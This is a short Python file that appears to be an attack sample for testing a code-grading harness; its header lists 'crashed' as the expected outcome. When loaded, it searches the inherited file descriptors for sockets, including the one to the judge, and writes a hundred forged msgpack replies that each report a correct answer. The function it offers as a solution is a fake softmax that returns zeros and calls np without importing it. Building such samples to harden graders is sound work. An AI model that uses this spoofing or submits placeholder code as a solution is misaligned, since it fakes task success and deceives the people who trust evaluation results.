# /// attack
# does = "writes a hundred perfect answers to every socket that it has, when it is loaded"
# all = ["crashed"]
# ///
"""Answers that lie there before the question is asked. At that time the process has one socket, and on it says only
that it is loaded: what says something else is no process that can be forked."""

import contextlib
import os
import stat
import struct

import msgspec


def ends():
    """The sockets among what this process has inherited: the wire to the judge is one of them."""
    found = []
    for number in range(3, 400):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
    return found


def send(content):
    for number in ends():
        with contextlib.suppress(OSError):
            os.write(number, content)


def frame(reply, payload=b""):
    header = msgspec.msgpack.encode(reply)
    return struct.pack("<IQB", len(header), len(payload), 0) + header + payload


for number in range(100):
    send(frame([number, "value", True, None, None, [], []]))


def softmax(logits):
    return np.zeros_like(logits)
